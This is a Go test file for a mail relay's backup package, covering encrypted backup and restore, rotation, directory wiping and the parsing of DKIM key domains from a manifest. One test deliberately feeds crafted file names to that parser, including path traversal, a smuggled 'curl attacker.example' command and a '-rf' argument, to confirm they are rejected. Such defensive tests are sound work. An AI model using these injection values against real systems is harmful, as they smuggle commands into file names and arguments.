package backup

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"filippo.io/age"

	"codeberg.org/relais/relais/config"
	"codeberg.org/relais/relais/store"
)

func testConfig(t *testing.T) config.Config {
	c := config.Default()
	c.Domains = []string{"hub.example"}
	c.DataDir = t.TempDir()
	if err := c.Validate(); err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(filepath.Join(c.DKIM.KeysDir, "hub.example"), 0o700)
	os.WriteFile(filepath.Join(c.DKIM.KeysDir, "hub.example", "rsa-1.pem"), []byte("KEY"), 0o600)
	return c
}

func TestCreateRestore(t *testing.T) {
	c := testConfig(t)
	db, err := store.Open(c.DataDir)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Secret(context.Background(), "x"); err != nil { // one row in settings
		t.Fatal(err)
	}
	id, _ := age.GenerateX25519Identity()
	var b bytes.Buffer
	m, err := Create(context.Background(), db, c, []age.Recipient{id.Recipient()}, &b, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if m.Counts["settings"] != 1 || m.Schema < 9 {
		t.Fatalf("manifest %+v", m)
	}
	if bytes.Contains(b.Bytes(), []byte("hub.example")) || bytes.Contains(b.Bytes(), []byte("SQLite format")) {
		t.Fatal("backup not encrypted")
	}
	// Without the identity, nothing.
	other, _ := age.GenerateX25519Identity()
	dir := filepath.Join(t.TempDir(), "restored")
	if _, err := Restore(context.Background(), bytes.NewReader(b.Bytes()), []age.Identity{other}, dir); err == nil ||
		!strings.Contains(err.Error(), "did not match") {
		t.Fatalf("restore with another identity: %v", err)
	}
	os.RemoveAll(dir)
	got, err := Restore(context.Background(), bytes.NewReader(b.Bytes()), []age.Identity{id}, dir)
	if err != nil {
		t.Fatal(err)
	}
	if got.Counts["settings"] != 1 {
		t.Fatalf("manifest %+v", got)
	}
	if k, _ := os.ReadFile(filepath.Join(dir, "dkim", "hub.example", "rsa-1.pem")); string(k) != "KEY" {
		t.Fatalf("key %q", k)
	}
	rc, err := config.Load(filepath.Join(dir, "relais.toml"))
	if err != nil {
		t.Fatal(err)
	}
	abs, _ := filepath.Abs(dir)
	if rc.DataDir != abs || rc.DKIM.KeysDir != filepath.Join(abs, "dkim") || rc.Domains[0] != "hub.example" {
		t.Fatalf("restored config: %+v", rc)
	}
	// Not into a directory that holds anything.
	if _, err := Restore(context.Background(), bytes.NewReader(b.Bytes()), []age.Identity{id}, dir); !errors.Is(err, ErrNotEmpty) {
		t.Fatalf("restore into a full directory: %v", err)
	}
}

func TestRotate(t *testing.T) {
	dir := t.TempDir()
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := 0; i < 5; i++ {
		os.WriteFile(filepath.Join(dir, Name(t0.Add(time.Duration(i)*time.Hour))), nil, 0o600)
	}
	gone, err := Rotate(dir, 3)
	if err != nil || len(gone) != 2 || !strings.HasSuffix(gone[0], "relais-20260101-000000.tar.age") {
		t.Fatalf("%v %v", gone, err)
	}
	if left, _ := Files(dir); len(left) != 3 {
		t.Fatalf("left %v", left)
	}
}

func TestWipe(t *testing.T) {
	dir := t.TempDir()
	if _, err := Wipe(dir); !errors.Is(err, ErrNotDataDir) {
		t.Fatalf("wiped a directory without a database: %v", err)
	}
	os.WriteFile(filepath.Join(dir, "relais.db"), bytes.Repeat([]byte("x"), 100000), 0o600)
	os.MkdirAll(filepath.Join(dir, "dkim", "hub.example"), 0o700)
	os.WriteFile(filepath.Join(dir, "dkim", "hub.example", "k.pem"), []byte("key"), 0o600)
	rep, err := Wipe(dir)
	if err != nil || rep.Files != 2 || rep.Bytes != 100003 || rep.Dirs != 2 {
		t.Fatalf("%+v %v", rep, err)
	}
	if ents, _ := os.ReadDir(dir); len(ents) != 0 {
		t.Fatalf("left %v", ents)
	}
}

func TestKeyDomains(t *testing.T) {
	m := Manifest{Files: []string{"relais.db", "relais.toml", "dkim/hub.example/relais-rsa.pem", "dkim/autre.fr/active",
		"dkim/hub.example/active", "dkim/stray.pem", "dkim//x.pem", "templates/dkim/x.example/y", "geo/positions.csv"}}
	if got, want := strings.Join(m.KeyDomains(), " "), "autre.fr hub.example"; got != want {
		t.Errorf("KeyDomains = %q, want %q", got, want)
	}
	// The manifest is the backup's word: names that are not domains are
	// not given back to be printed in a command line.
	evil := Manifest{Files: []string{"dkim/../../x.pem", "dkim/hub.example; curl attacker.example/a", "dkim/a\nrun it: x/k",
		"dkim/-rf/k", "dkim/a..b/k", "dkim/xn--bcher-kva.example/k"}}
	if got, want := strings.Join(evil.KeyDomains(), " "), "xn--bcher-kva.example"; got != want {
		t.Errorf("KeyDomains of a crafted manifest = %q, want %q", got, want)
	}
	if got := (Manifest{Files: []string{"relais.db"}}).KeyDomains(); len(got) != 0 {
		t.Errorf("KeyDomains without keys = %q", got)
	}
}
